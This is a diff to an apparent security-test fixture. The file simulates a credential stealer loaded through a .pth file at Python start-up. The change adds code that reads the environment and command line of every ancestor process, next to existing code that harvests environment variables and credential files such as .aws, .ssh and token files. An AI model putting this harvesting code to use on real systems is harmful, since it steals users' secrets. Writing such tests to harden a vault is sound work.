@@ -1,5 +1,6 @@
 # The seed attack: imported by a .pth file at interpreter start-up, before any application code.
-# It collects what a credential stealer collects (the environment, /proc/self/environ, the home
+# It collects what a credential stealer collects (the environment, /proc/self/environ and every
+# ancestor's environ and cmdline, the home
 # directory's credential files, a copy of the vault directory), tries every key-shaped value it
 # found against the provider and the broker, and writes its loot to HARVEST_OUT for the test.
 import glob, json, os, shutil, urllib.request
@@ -8,6 +9,20 @@ def _harvest(out):
     loot = {"env": dict(os.environ), "files": {}, "tried": []}
     with open("/proc/self/environ", "rb") as f:
         loot["proc_environ"] = f.read().decode("latin1")
+    # The parent (exec, the same OS user) and every ancestor: what the kernel shows of them.
+    loot["ancestors"] = []
+    pid = os.getppid()
+    while pid > 1:
+        entry = {"pid": pid}
+        for part in ("environ", "cmdline"):
+            try:
+                with open("/proc/%d/%s" % (pid, part), "rb") as f:
+                    entry[part] = f.read().decode("latin1")
+            except OSError as error:
+                entry[part] = "!" + type(error).__name__
+        loot["ancestors"].append(entry)
+        with open("/proc/%d/stat" % pid) as f:
+            pid = int(f.read().rsplit(")", 1)[1].split()[1])
     home = os.path.expanduser("~")
     for pattern in [".aws/*", ".ssh/*", ".config/**", ".netrc", ".npmrc", ".env", ".agent-vault/**", "**/*.token", "**/*.key"]:
         for path in glob.glob(os.path.join(home, pattern), recursive=True):
